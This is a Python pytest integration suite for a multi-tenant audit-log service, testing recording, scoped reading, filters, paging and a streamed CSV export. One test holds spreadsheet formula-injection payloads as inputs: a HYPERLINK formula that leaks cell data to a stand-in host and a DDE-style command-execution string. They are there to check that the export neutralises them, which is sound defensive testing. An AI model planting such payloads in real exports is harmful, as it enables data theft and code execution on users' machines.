"""The audit service on the real PostgreSQL: recording in the caller's transaction, scoped reading,
filters and paging, the streamed CSV export, and who may do what.

Every test runs in the rolled-back `db` transaction, except the transaction test, which uses real
transactions on the owner engine that all end in a rollback (nothing is ever committed).
"""

from __future__ import annotations

import csv
import io
import json
import secrets
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, date, datetime, timedelta, timezone
from typing import TYPE_CHECKING

import pytest
import sqlalchemy as sa
from sqlalchemy import Engine
from sqlalchemy.exc import IntegrityError
from sqlmodel import Session, col, select

from models import AuditLog, Company, Role, TaskStatus, User
from services.audit import records as audit
from services.audit.records import AuditAction, AuditFilter, AuditTarget
from services.core.actor import Actor
from services.core.db import apply_scope, system_scope
from services.core.errors import PermissionDenied, ValidationFailed
from services.identity.auth import actor_for
from tests.conftest import rolled_back_session
from tests.factories import make_admin, make_audit, make_company, make_user, operator_actor

if TYPE_CHECKING:
    pass

pytestmark = pytest.mark.integration


@dataclass
class World:
    a: Company
    b: Company
    manager_a: Actor
    worker_a: Actor
    client_a: Actor
    manager_b: Actor
    admin: Actor


@pytest.fixture
def world(db: Session) -> World:
    a = make_company(db, "Acme")
    b = make_company(db, "Globex")
    return World(
        a=a,
        b=b,
        manager_a=actor_for(make_user(db, a, Role.MANAGER), a, ip="10.0.0.1", user_agent="Firefox"),
        worker_a=actor_for(make_user(db, a, Role.WORKER), a),
        client_a=actor_for(make_user(db, a, Role.CLIENT), a),
        manager_b=actor_for(make_user(db, b, Role.MANAGER), b),
        admin=actor_for(make_admin(db), None, ip="192.0.2.7"),
    )


def entries(db: Session, actor: Actor, **filters: object) -> list[audit.AuditEntry]:
    return audit.list_entries(db, actor, AuditFilter(**filters), limit=500).entries


def logged(
    db: Session, company: Company | None, user: User | None, action: str, email: str, **fields: object
) -> AuditLog:
    """Like make_audit, with the email the log copied at the time (which may differ from today's)."""
    entry = make_audit(db, company, user, action, **fields)
    entry.actor_email = email
    db.add(entry)
    db.flush()
    return entry


def at(day: str, hour: int = 12, minute: int = 0) -> datetime:
    return datetime.fromisoformat(day).replace(hour=hour, minute=minute, tzinfo=UTC)


def export_rows(db: Session, actor: Actor, filters: AuditFilter | None = None) -> list[list[str]]:
    return list(csv.reader(io.StringIO("".join(audit.export_csv(db, actor, filters)), newline="")))


# ---- recording -----------------------------------------------------------------------------


def test_record_and_read_back(db: Session, world: World) -> None:
    target = uuid.uuid4()
    audit.record(
        db,
        actor=world.manager_a,
        action=AuditAction.MEMBER_ROLE_CHANGED,
        company_id=world.a.id,
        target_type=AuditTarget.USER,
        target_id=target,
        changes={"role": {"from": Role.WORKER, "to": Role.MANAGER}},
    )
    page = audit.list_entries(db, world.manager_a, AuditFilter())
    assert page.total == 1
    (entry,) = page.entries
    assert entry.action == "member_role_changed"
    assert entry.actor_email == world.manager_a.email and entry.actor_role == "manager"
    assert entry.actor_user_id == world.manager_a.user_id and entry.company_id == world.a.id
    assert entry.target_type == "user" and entry.target_id == str(target)
    assert entry.changes == {"role": {"from": "worker", "to": "manager"}}
    assert entry.ip == "10.0.0.1" and entry.user_agent == "Firefox"  # taken from the actor
    assert entry.company_name == "Acme"
    assert entry.created_at.tzinfo is not None
    assert abs(entry.created_at - datetime.now(UTC)) < timedelta(minutes=1)


def test_record_anonymous_with_claimed_email_and_explicit_request_details(db: Session, world: World) -> None:
    audit.record(
        db,
        actor=None,
        action=AuditAction.LOGIN_FAILED,
        company_id=None,
        actor_email="nobody@example.com",
        ip="203.0.113.9",
        user_agent="curl/8",
    )
    audit.record(db, actor=world.manager_a, action=AuditAction.LOGOUT, company_id=world.a.id, ip="", user_agent="")
    rows = {
        row.action: row
        for row in db.exec(select(AuditLog).where(col(AuditLog.action).in_(["login_failed", "logout"]))).all()
    }
    failed = rows["login_failed"]
    assert failed.actor_user_id is None and failed.actor_role == "" and failed.company_id is None
    assert (failed.actor_email, failed.ip, failed.user_agent) == ("nobody@example.com", "203.0.113.9", "curl/8")
    # explicit values win over the actor's, even empty ones
    assert rows["logout"].ip == "" and rows["logout"].user_agent == ""


def test_long_strings_are_cut_to_the_column_sizes(db: Session, world: World) -> None:
    audit.record(
        db,
        actor=None,
        action="x" * 100,
        company_id=world.a.id,
        target_type="t" * 100,
        target_id="9" * 100,
        actor_email=("e" * 400) + "@example.com",
        ip="1" * 100,
        user_agent="Mozilla\x00" + "u" * 1000,
        changes={"note": "n" * 50_000},
    )
    row = db.exec(select(AuditLog).where(AuditLog.company_id == world.a.id)).one()
    sizes = audit.COLUMN_SIZES
    assert len(row.action) == sizes["action"] == 60
    assert len(row.target_type) == sizes["target_type"] and len(row.target_id) == sizes["target_id"] == 64
    assert len(row.actor_email) == 320 and len(row.ip) == 64 and len(row.user_agent) == 512
    assert "\x00" not in row.user_agent
    assert len(row.changes["note"]) == audit.MAX_CHANGE_TEXT


def test_changes_are_stored_as_json_and_secrets_never_reach_the_table(db: Session, world: World) -> None:
    ident = uuid.uuid4()
    when = datetime(2026, 4, 1, 9, 30, tzinfo=UTC)
    audit.record(
        db,
        actor=world.manager_a,
        action=AuditAction.PASSWORD_CHANGED,
        company_id=world.a.id,
        target_type=AuditTarget.USER,
        target_id=world.manager_a.user_id,
        changes={
            "user_id": ident,
            "at": when,
            "status": TaskStatus.DONE,
            "password": "Hunter2-plain",
            "password_hash": "$argon2id$v=19$secret-hash",
            "token": "raw-session-token",
            "token_hash": "f" * 64,
            "secret": "s3cr3t",
            "nested": {"new_password": "Hunter3-plain", "kept": 1},
        },
    )
    stored = db.exec(select(AuditLog).where(AuditLog.company_id == world.a.id)).one()
    assert stored.changes == {
        "user_id": str(ident),
        "at": "2026-04-01T09:30:00+00:00",
        "status": "done",
        "nested": {"kept": 1},
    }
    raw = (
        db.connection()
        .execute(sa.text("SELECT changes::text FROM audit_logs WHERE id = :id"), {"id": stored.id})
        .scalar_one()
    )
    for leaked in ("Hunter2", "Hunter3", "argon2", "raw-session-token", "f" * 64, "s3cr3t", "password", "token"):
        assert leaked not in raw


def test_a_change_and_its_audit_entry_commit_or_roll_back_together(owner_engine: Engine) -> None:
    """Real transactions (system scope: row-level security lets them see every row); none commits."""
    slug = f"audit-tx-{secrets.token_hex(4)}"

    def persisted() -> tuple[bool, bool]:
        with system_scope(owner_engine) as check:
            company = check.exec(select(Company).where(Company.slug == slug)).first()
            entry = check.exec(select(AuditLog).where(AuditLog.target_id == slug)).first()
            check.rollback()
            return company is not None, entry is not None

    # 1. the change fails after its entry was recorded: the entry goes too
    with pytest.raises(RuntimeError, match="boom"), system_scope(owner_engine) as session:
        company = Company(name="Tx", slug=slug)
        session.add(company)
        session.flush()
        audit.record(session, actor=None, action=AuditAction.COMPANY_CREATED, company_id=company.id, target_id=slug)
        assert session.exec(select(AuditLog).where(AuditLog.target_id == slug)).one()  # it was written...
        assert persisted() == (False, False)  # ...not committed: invisible to another connection...
        raise RuntimeError("boom")
    assert persisted() == (False, False)  # ...and rolled back with the change

    # 2. the entry cannot be written: the change goes too
    with pytest.raises(IntegrityError), system_scope(owner_engine) as session:
        session.add(Company(name="Tx", slug=slug))
        session.flush()
        assert session.exec(select(Company).where(Company.slug == slug)).one()
        audit.record(session, actor=None, action=AuditAction.COMPANY_CREATED, company_id=uuid.uuid4(), target_id=slug)
    assert persisted() == (False, False)


def test_record_needs_an_action(db: Session, world: World) -> None:
    with pytest.raises(ValueError, match="action"):
        audit.record(db, actor=world.manager_a, action="", company_id=world.a.id)


# ---- reading: who sees what ----------------------------------------------------------------


@pytest.fixture
def three_logs(db: Session, world: World) -> dict[str, AuditLog]:
    """One row in A, one in B, one operator-wide."""
    return {
        "a": make_audit(db, world.a, action="in_a"),
        "b": make_audit(db, world.b, action="in_b"),
        "operator": make_audit(db, None, action="operator_wide"),
    }


def test_a_manager_sees_only_their_company(db: Session, world: World, three_logs: dict[str, AuditLog]) -> None:
    page = audit.list_entries(db, world.manager_a, AuditFilter())
    assert [e.id for e in page.entries] == [three_logs["a"].id] and page.total == 1
    assert [e.id for e in entries(db, world.manager_b)] == [three_logs["b"].id]
    # filters cannot widen the scope
    assert entries(db, world.manager_a, action="in_b") == []
    assert entries(db, world.manager_a, action="operator_wide") == []
    assert audit.distinct_actions(db, world.manager_a) == ["in_a"]


def test_a_manager_may_not_ask_for_another_company(db: Session, world: World, three_logs: dict[str, AuditLog]) -> None:
    with pytest.raises(PermissionDenied):
        audit.list_entries(db, world.manager_a, AuditFilter(company_id=world.b.id))
    with pytest.raises(PermissionDenied):
        audit.export_csv(db, world.manager_a, AuditFilter(company_id=world.b.id))
    assert [e.id for e in entries(db, world.manager_a, company_id=world.a.id)] == [three_logs["a"].id]


def test_the_operator_sees_everything_and_can_filter_by_company(
    db: Session, world: World, three_logs: dict[str, AuditLog]
) -> None:
    everything = {e.id: e for e in entries(db, world.admin)}
    assert {log.id for log in three_logs.values()} <= set(everything)
    assert everything[three_logs["a"].id].company_name == "Acme"
    assert everything[three_logs["b"].id].company_name == "Globex"
    assert everything[three_logs["operator"].id].company_name == ""
    assert [e.id for e in entries(db, world.admin, company_id=world.b.id)] == [three_logs["b"].id]
    assert {"in_a", "in_b", "operator_wide"} <= set(audit.distinct_actions(db, world.admin))


@pytest.mark.parametrize("who", ["worker_a", "client_a"])
def test_workers_and_clients_are_refused(db: Session, world: World, three_logs: dict[str, AuditLog], who: str) -> None:
    actor = getattr(world, who)
    for call in (
        lambda: audit.list_entries(db, actor, AuditFilter()),
        lambda: audit.export_csv(db, actor, AuditFilter()),
        lambda: audit.distinct_actions(db, actor),
        lambda: audit.actors(db, actor),
    ):
        with pytest.raises(PermissionDenied):
            call()
    # a refused export leaves no trace of an export
    assert db.exec(select(AuditLog).where(AuditLog.action == AuditAction.AUDIT_EXPORTED)).all() == []


def test_no_actor_is_refused(db: Session, world: World) -> None:
    with pytest.raises(PermissionDenied):
        audit.list_entries(db, None, AuditFilter())
    with pytest.raises(PermissionDenied):
        audit.export_csv(db, None)


# ---- filters and paging --------------------------------------------------------------------


def test_every_filter_works(db: Session, world: World) -> None:
    manager = db.get(User, world.manager_a.user_id)
    worker = db.get(User, world.worker_a.user_id)
    rows = {
        "m_login_0301": make_audit(db, world.a, manager, "login", created_at=at("2026-03-01", 0, 0)),
        "w_login_0302": make_audit(db, world.a, worker, "login", created_at=at("2026-03-02", 23, 59)),
        "m_invite_0303": make_audit(db, world.a, manager, "member_invited", created_at=at("2026-03-03")),
        "w_task_0310": make_audit(db, world.a, worker, "task_updated", created_at=at("2026-03-10")),
    }

    def found(**filters: object) -> set[str]:
        ids = {e.id for e in entries(db, world.manager_a, **filters)}
        return {name for name, row in rows.items() if row.id in ids}

    assert found() == set(rows)
    assert found(user_id=world.worker_a.user_id) == {"w_login_0302", "w_task_0310"}
    assert found(action="login") == {"m_login_0301", "w_login_0302"}
    assert found(date_from=date(2026, 3, 2)) == {"w_login_0302", "m_invite_0303", "w_task_0310"}
    assert found(date_to=date(2026, 3, 2)) == {"m_login_0301", "w_login_0302"}  # the whole last day counts
    assert found(date_from=date(2026, 3, 1), date_to=date(2026, 3, 1)) == {"m_login_0301"}
    assert found(date_from=date(2026, 3, 4), date_to=date(2026, 3, 9)) == set()
    assert found(user_id=world.manager_a.user_id, action="login", date_to=date(2026, 3, 5)) == {"m_login_0301"}
    assert found(action="no_such_action") == set()
    # a datetime passed as a date counts as its day
    assert found(date_from=datetime(2026, 3, 10, 18, 0, tzinfo=UTC)) == {"w_task_0310"}
    # days are the viewer's: 23:59 UTC on 2 March is already 3 March at UTC+3
    plus3 = timezone(timedelta(hours=3))
    assert found(date_from=date(2026, 3, 3), date_to=date(2026, 3, 3), tz=plus3) == {"w_login_0302", "m_invite_0303"}
    # open-ended extremes do not overflow
    assert found(date_from=date.min, date_to=date.max) == set(rows)


def test_a_bad_date_range_is_a_validation_error(db: Session, world: World) -> None:
    bad = AuditFilter(date_from=date(2026, 3, 2), date_to=date(2026, 3, 1))
    with pytest.raises(ValidationFailed) as failure:
        audit.list_entries(db, world.manager_a, bad)
    assert failure.value.message == "error.audit_date_range"
    with pytest.raises(ValidationFailed):
        audit.export_csv(db, world.admin, bad)
    assert db.exec(select(AuditLog).where(AuditLog.action == AuditAction.AUDIT_EXPORTED)).all() == []


def test_paging_is_newest_first_with_a_total(db: Session, world: World, monkeypatch: pytest.MonkeyPatch) -> None:
    same_time = at("2026-02-01")
    logs = [make_audit(db, world.a, action=f"a{i}", created_at=at("2026-01-01") + timedelta(hours=i)) for i in range(5)]
    ties = [make_audit(db, world.a, action=f"tie{i}", created_at=same_time) for i in range(2)]
    newest_first = [ties[1].id, ties[0].id] + [log.id for log in reversed(logs)]  # ties: higher id first

    pages = [audit.list_entries(db, world.manager_a, AuditFilter(), limit=3, offset=offset) for offset in (0, 3, 6, 9)]
    assert [page.total for page in pages] == [7, 7, 7, 7]
    assert [[e.id for e in page.entries] for page in pages] == [
        newest_first[:3],
        newest_first[3:6],
        newest_first[6:],
        [],
    ]
    assert audit.list_entries(db, world.manager_a).total == 7  # filters are optional

    monkeypatch.setattr(audit, "MAX_PAGE_SIZE", 2)
    assert len(audit.list_entries(db, world.manager_a, AuditFilter(), limit=1000).entries) == 2
    for limit, offset in ((0, 0), (-1, 0), (10, -1)):
        with pytest.raises(ValidationFailed):
            audit.list_entries(db, world.manager_a, AuditFilter(), limit=limit, offset=offset)


def test_the_default_page_cap_is_500(db: Session, world: World) -> None:
    assert audit.MAX_PAGE_SIZE == 500
    db.connection().execute(
        sa.insert(AuditLog),
        [{"company_id": world.a.id, "action": "bulk", "created_at": at("2026-01-01")} for _ in range(510)],
    )
    page = audit.list_entries(db, world.manager_a, AuditFilter(action="bulk"), limit=10_000)
    assert len(page.entries) == 500 and page.total == 510


# ---- filter dropdowns ----------------------------------------------------------------------


def test_dropdowns_list_the_visible_actions_and_users(db: Session, world: World) -> None:
    manager = db.get(User, world.manager_a.user_id)
    worker = db.get(User, world.worker_a.user_id)
    other = db.get(User, world.manager_b.user_id)
    admin = db.get(User, world.admin.user_id)
    assert manager and worker and other and admin
    make_audit(db, world.a, manager, "login")
    make_audit(db, world.a, manager, "logout")
    make_audit(db, world.a, worker, "login")
    make_audit(db, world.a, admin, "company_reactivated")  # the operator acting on company A
    logged(db, world.a, None, "login_failed", "nobody@example.com")
    make_audit(db, world.b, other, "invite_resent")
    make_audit(db, None, admin, "plan_updated")

    assert audit.distinct_actions(db, world.manager_a) == ["company_reactivated", "login", "login_failed", "logout"]
    options = {o.user_id: o for o in audit.actors(db, world.manager_a)}
    # not B's manager, not the anonymous row, and not the operator: a company sees "Operator" only (issue 7)
    assert set(options) == {manager.id, worker.id}
    assert options[manager.id].full_name == manager.full_name and options[manager.id].email == manager.email
    assert admin.email not in repr(audit.actors(db, world.manager_a))

    admin_view = {o.user_id: o for o in audit.actors(db, world.admin)}
    assert {manager.id, worker.id, other.id, admin.id} <= set(admin_view)
    assert admin_view[admin.id].full_name == admin.full_name
    labels = [o.label.lower() for o in audit.actors(db, world.admin)]
    assert labels == sorted(labels)


def test_entries_of_a_deleted_user_stay_but_leave_the_user_dropdown(db: Session, world: World) -> None:
    worker = db.get(User, world.worker_a.user_id)
    assert worker
    logged(db, world.a, worker, "login", "old@example.com", created_at=at("2026-01-01"))
    logged(db, world.a, worker, "login", "new@example.com", created_at=at("2026-02-01"))
    db.delete(worker)
    db.flush()  # a deleted user's entries keep the email but can no longer be picked by user
    assert audit.actors(db, world.manager_a) == []
    assert {e.actor_email for e in entries(db, world.manager_a)} == {"old@example.com", "new@example.com"}


def test_the_user_dropdown_prefers_the_most_recent_entry(db: Session, world: World) -> None:
    worker = db.get(User, world.worker_a.user_id)
    assert worker
    logged(db, world.a, worker, "login", "old@example.com", created_at=at("2026-02-01"))
    logged(db, world.a, worker, "login", "new@example.com", created_at=at("2026-03-01"))
    logged(db, world.a, worker, "logout", "older@example.com", created_at=at("2026-01-01"))
    (option,) = audit.actors(db, world.manager_a)
    # (the name comes from the user row, the email from the newest entry)
    assert option.email == "new@example.com" and option.full_name == worker.full_name


# ---- CSV export ----------------------------------------------------------------------------


def test_csv_has_a_header_and_one_row_per_entry_newest_first(db: Session, world: World) -> None:
    manager = db.get(User, world.manager_a.user_id)
    older = make_audit(
        db,
        world.a,
        manager,
        "member_invited",
        target_type="invitation",
        target_id="inv-1",
        changes={"email": "new@example.com", "role": "worker"},
        ip="10.0.0.1",
        user_agent="Firefox",
        created_at=at("2026-03-01", 8, 30),
    )
    newer = make_audit(db, world.a, manager, "logout", created_at=at("2026-03-02"))
    make_audit(db, world.b, None, "in_b")

    rows = export_rows(db, world.manager_a)
    assert rows[0] == list(audit.CSV_HEADER)
    assert [row[0] for row in rows[1:]] == [str(newer.id), str(older.id)]
    by_id = {row[0]: dict(zip(rows[0], row, strict=True)) for row in rows[1:]}
    first = by_id[str(older.id)]
    assert first["created_at"] == "2026-03-01T08:30:00+00:00"
    assert first["company"] == "Acme" and first["actor_email"] == manager.email and first["actor_role"] == "manager"
    assert (first["action"], first["target_type"], first["target_id"]) == ("member_invited", "invitation", "inv-1")
    assert (first["ip"], first["user_agent"]) == ("10.0.0.1", "Firefox")
    assert json.loads(first["changes"]) == {"email": "new@example.com", "role": "worker"}
    assert by_id[str(newer.id)]["changes"] == ""


def test_csv_timestamps_follow_the_viewer_time_zone(db: Session, world: World) -> None:
    make_audit(db, world.a, None, "login", created_at=at("2026-03-01", 22, 0))
    rows = export_rows(db, world.manager_a, AuditFilter(tz=timezone(timedelta(hours=3))))
    assert rows[1][1] == "2026-03-02T01:00:00+03:00"


def test_csv_escapes_separators_quotes_and_newlines(db: Session, world: World) -> None:
    awkward = 'Mozilla/5.0 (X11; Linux), "quoted"\nsecond line;semi'
    entry = make_audit(db, world.a, None, "login", user_agent=awkward, changes={"note": 'a, "b"\nc'})
    text = "".join(audit.export_csv(db, world.manager_a))
    assert text.startswith(",".join(audit.CSV_HEADER) + "\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    (row,) = [r for r in rows[1:] if r[0] == str(entry.id)]
    assert row[9] == awkward
    assert json.loads(row[10]) == {"note": 'a, "b"\nc'}
    assert len(rows) == 2  # the embedded newlines did not create extra records


def test_csv_neutralises_formula_injection(db: Session, world: World) -> None:
    # a failed login is the easiest way for an outsider to put text in the log
    audit.record(
        db,
        actor=None,
        action=AuditAction.LOGIN_FAILED,
        company_id=world.a.id,
        actor_email='=HYPERLINK("http://evil.example/?"&A1,"click")',
        user_agent="@SUM(1+1)*cmd|' /C calc'!A0",
        target_id="-2+3",
        target_type="+t",
        ip="\t10.0.0.1",
    )
    (_, row) = export_rows(db, world.manager_a)
    cells = dict(zip(audit.CSV_HEADER, row, strict=True))
    assert cells["actor_email"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert cells["user_agent"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["target_id"] == "'-2+3" and cells["target_type"] == "'+t" and cells["ip"] == "'\t10.0.0.1"
    assert not any(cell.startswith(audit.FORMULA_PREFIXES) for cell in row)


def test_export_is_scoped_and_filtered_like_the_list(db: Session, world: World) -> None:
    mine = make_audit(db, world.a, None, "login")
    make_audit(db, world.a, None, "logout")
    theirs = make_audit(db, world.b, None, "login")
    operator = make_audit(db, None, None, "plan_updated")
    ids = {row[0] for row in export_rows(db, world.manager_a, AuditFilter(action="login"))[1:]}
    assert ids == {str(mine.id)}
    admin_ids = {row[0] for row in export_rows(db, world.admin)[1:]}
    assert {str(mine.id), str(theirs.id), str(operator.id)} <= admin_ids
    b_only = export_rows(db, world.admin, AuditFilter(company_id=world.b.id))[1:]
    assert [(row[0], row[2]) for row in b_only] == [(str(theirs.id), "Globex")]


def test_export_records_who_exported_what(db: Session, world: World) -> None:
    make_audit(db, world.a, None, "login")
    filters = AuditFilter(action="login", date_from=date(2026, 1, 1))
    first = export_rows(db, world.manager_a, filters)
    assert all(row[5] != "audit_exported" for row in first[1:])  # the export's own entry is not in its file

    (entry,) = entries(db, world.manager_a, action=AuditAction.AUDIT_EXPORTED)
    assert entry.actor_user_id == world.manager_a.user_id and entry.company_id == world.a.id
    assert entry.ip == "10.0.0.1" and entry.target_type == "audit_log"
    assert entry.changes == {"filters": {"action": "login", "date_from": "2026-01-01"}, "format": "csv"}

    # a later export includes the earlier one
    second = export_rows(db, world.manager_a)
    assert str(entry.id) in {row[0] for row in second[1:]}

    # the operator's export of one company is recorded in that company's log; a full one operator-wide
    export_rows(db, world.admin, AuditFilter(company_id=world.b.id))
    export_rows(db, world.admin)
    exports = db.exec(
        select(AuditLog).where(AuditLog.action == "audit_exported", AuditLog.actor_user_id == world.admin.user_id)
    ).all()
    assert sorted((e.company_id is None, e.ip) for e in exports) == [(False, "192.0.2.7"), (True, "192.0.2.7")]
    assert {e.company_id for e in exports} == {world.b.id, None}
    assert [e.id for e in entries(db, world.manager_b, action="audit_exported")]  # B's manager can see it


def test_export_access_and_entry_are_checked_when_called_not_when_read(db: Session, world: World) -> None:
    lines = audit.export_csv(db, world.manager_a)  # nothing consumed yet
    assert [e.action for e in entries(db, world.manager_a)] == ["audit_exported"]
    assert next(lines).startswith("id,created_at,")


def test_export_reads_in_short_batches_and_holds_no_cursor_between_them(
    db: Session, world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 7: each batch is one query the caller may end its transaction after (`between_batches`),
    so a slow reader holds no connection; no server-side cursor stays open while lines go out."""
    monkeypatch.setattr(audit, "EXPORT_BATCH_SIZE", 2)
    made = [
        make_audit(db, world.a, None, f"row{i}", created_at=at("2026-01-01") + timedelta(minutes=i)) for i in range(7)
    ]

    def open_cursors() -> int:
        return int(db.connection().execute(sa.text("SELECT count(*) FROM pg_cursors")).scalar_one())

    batches: list[int] = []
    lines = audit.export_csv(db, world.manager_a, between_batches=lambda: batches.append(1))
    next(lines)  # the header: nothing read yet
    assert batches == []
    next(lines)  # the first row: one batch was read, not the whole log
    assert batches == [1] and open_cursors() == 0
    rest = list(lines)
    assert len(rest) == 6
    assert len(batches) == 4  # 7 rows in batches of 2
    assert open_cursors() == 0
    all_ids = [line.split(",", 1)[0] for line in rest]
    assert all_ids == [str(log.id) for log in reversed(made[:-1])]

    abandoned = audit.export_csv(db, world.manager_a)
    next(abandoned), next(abandoned)
    assert open_cursors() == 0
    abandoned.close()  # a download cancelled half-way leaves nothing behind


# ---- as the app role, under row-level security ------------------------------------------------


@pytest.fixture
def app_db(app_engine: Engine) -> Iterator[Session]:
    """A rolled-back session connected as the app role (SELECT and INSERT only on audit_logs)."""
    with rolled_back_session(app_engine, rls_bypass=False) as session:
        yield session


def test_the_service_works_as_the_app_role_in_each_scope(app_db: Session) -> None:
    db = app_db
    apply_scope(db, operator_actor())  # set up two companies' data (the app role has no bypass: the operator's scope)
    a, b = make_company(db, "Acme"), make_company(db, "Globex")
    manager = actor_for(make_user(db, a, Role.MANAGER), a)
    admin = actor_for(make_admin(db))
    in_a, in_b, operator = make_audit(db, a, action="in_a"), make_audit(db, b, action="in_b"), make_audit(db, None)

    apply_scope(db, manager)  # the manager's own transaction: their company only
    audit.record(db, actor=manager, action=AuditAction.LOGOUT, company_id=a.id)  # INSERT is enough
    seen = audit.list_entries(db, manager, AuditFilter())
    assert [e.action for e in seen.entries] == ["logout", "in_a"] and seen.total == 2
    exported = export_rows(db, manager)  # records its entry and streams through a cursor
    assert {row[0] for row in exported[1:]} == {str(e.id) for e in seen.entries}

    apply_scope(db, admin)  # the operator: every row, operator-wide ones too
    everything = {e.id for e in entries(db, admin)}
    assert {in_a.id, in_b.id, operator.id} <= everything


# ---- the operator in a company's log -----------------------------------------------------------


def test_operator_entries_show_as_operator_in_a_companys_log(db: Session, world: World) -> None:
    audit.record(
        db,
        actor=world.admin,
        action=AuditAction.COMPANY_DEACTIVATED,
        company_id=world.a.id,
        target_type=AuditTarget.COMPANY,
        target_id=world.a.id,
    )
    (seen,) = [e for e in entries(db, world.manager_a) if e.action == "company_deactivated"]
    assert seen.by_operator
    assert (seen.actor_email, seen.ip, seen.user_agent, seen.actor_user_id) == ("", "", "", None)
    assert world.admin.user_id not in [option.user_id for option in audit.actors(db, world.manager_a)]
    assert not entries(db, world.manager_a, user_id=world.admin.user_id)  # the operator's id finds nothing

    exported = export_rows(db, world.manager_a)
    (row,) = [r for r in exported[1:] if r[5] == "company_deactivated"]
    assert row[3] == "Operator" and world.admin.email not in repr(exported) and "192.0.2.7" not in repr(exported)
    labelled = list(csv.reader(io.StringIO("".join(audit.export_csv(db, world.manager_a, operator_label="Оператор")))))
    assert [r[3] for r in labelled if r[5] == "company_deactivated"] == ["Оператор"]

    (own,) = [e for e in entries(db, world.admin) if e.action == "company_deactivated"]  # the operator's view
    assert not own.by_operator and own.actor_email == world.admin.email and own.ip == "192.0.2.7"
    (own_row,) = [r for r in export_rows(db, world.admin)[1:] if r[5] == "company_deactivated"]
    assert own_row[3] == world.admin.email and own_row[8] == "192.0.2.7"
